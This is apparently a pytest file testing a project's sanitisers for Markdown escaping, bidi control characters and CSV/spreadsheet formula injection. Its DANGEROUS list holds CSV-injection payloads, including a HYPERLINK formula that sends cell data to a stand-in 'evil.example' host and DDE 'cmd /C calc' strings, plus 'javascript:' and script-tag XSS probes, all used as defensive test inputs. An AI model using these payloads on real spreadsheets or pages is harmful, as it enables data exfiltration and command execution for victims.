"""Participants' words: one Markdown escaping, one set of invisible controls, one formula guard for
every CSV/XLSX cell."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from coopwork.journal import clean_text
from coopwork.paths import problem
from coopwork.words import BIDI, is_formula_like, markdown, neutralise, neutralise_frame, to_csv


@pytest.mark.parametrize("text", ["[x](javascript:alert(1))", "![i](http://e/i.png)", "<script>x</script>",
                                  "> quote", "**bold** _it_ `code`", "# title", "a | b"])
def test_markdown_shows_the_words_and_makes_no_syntax(text):
    out = markdown(text)
    assert "<" not in out and ">" not in out.replace("&gt;", "")
    for char in "[]()*_`#|!":
        assert char not in out.replace("\\" + char, "")


@pytest.mark.parametrize("char", sorted(BIDI))
def test_every_bidi_control_is_dropped_from_notes_and_refused_in_ids(char):
    assert char not in clean_text(f"facture{char}txt.exe")
    assert problem(f"terr{char}itoire") == "id_control"


def test_the_arabic_letter_mark_is_one_of_them():
    assert "\u061c" in BIDI


# payloads from the OWASP "CSV injection" page and common spreadsheet attacks
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "-1+1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "-x",
    "+33 6 12 34 56 78 (Paul)",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =cmd|' /C calc'!A0",
    "＝1+1",
]
HARMLESS = ["SCOP", "Tiers-lieu (2024)", "1+1", "a=b", "", "'déjà", "café @ midi"]
# text made only of numbers: a spreadsheet can compute nothing with it, it is written as it is
NUMBERS = ["-3", "-2.5", "-2,5", "+4", "-1e-3", " -7", "-6.955502 39.12 0 0",
           "-45.764 4.835 0 0;-45.765 4.836 0 0", "+33 6 12 34 56 78"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_texts_get_an_apostrophe(text):
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_texts_are_unchanged(text):
    assert not is_formula_like(text)
    assert neutralise(text) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_negative_numbers_and_coordinates_written_as_text_keep_no_apostrophe(text):
    assert not is_formula_like(text)
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [-3, -2.5, 0, None, pd.NA, True, pd.Timestamp("2025-01-01")])
def test_non_text_values_are_unchanged(value):
    assert neutralise(value) is value


def test_frame_neutralises_text_cells_and_names_but_keeps_numbers():
    table = pd.DataFrame(
        {
            "note": pd.Series(["=1+1", "ok", None], dtype="str"),
            "obj": pd.Series(["@x", 3, None], dtype=object),
            "cat": pd.Series(["-a", "b", "-a"], dtype="category"),
            "n": pd.Series([-1, 2, 3], dtype="Int64"),
            "+name": [1.5, -2.0, 0.0],
        }
    )
    safe = neutralise_frame(table)
    assert safe["note"].tolist()[:2] == ["'=1+1", "ok"]
    assert pd.isna(safe["note"].iloc[2])
    assert safe["obj"].tolist()[:2] == ["'@x", 3]
    assert safe["cat"].tolist() == ["'-a", "b", "'-a"]
    assert safe["n"].tolist() == [-1, 2, 3] and str(safe["n"].dtype) == "Int64"
    assert list(safe.columns) == ["note", "obj", "cat", "n", "'+name"]
    # the input is not modified
    assert table["note"].iloc[0] == "=1+1" and "+name" in table.columns


def test_csv_written_from_a_neutralised_frame_has_no_cell_starting_with_a_trigger():
    table = pd.DataFrame({"text": DANGEROUS + HARMLESS + NUMBERS})
    text = to_csv(table)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for (cell,) in rows[1:]:
        assert not cell or cell[0] not in "=+-@\t\r\n＝" or cell in NUMBERS


def test_to_csv_quotes_carriage_returns_so_no_row_starts_with_a_formula(tmp_path):
    table = pd.DataFrame(
        {"text": [*DANGEROUS, *HARMLESS, "ok\r=2+2", "x\n@y"], "n": range(len(DANGEROUS) + 9)}
    )
    path = tmp_path / "t.csv"
    text = to_csv(table, path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == len(table) + 1
    assert [r[0] for r in rows[1:]] == [neutralise(v) for v in table["text"]]
    for row in rows[1:]:
        assert not row[0] or row[0][0] not in "=+-@\t\r\n＝" or row[0] in NUMBERS
    assert text.count("\r\n") == len(table) + 1
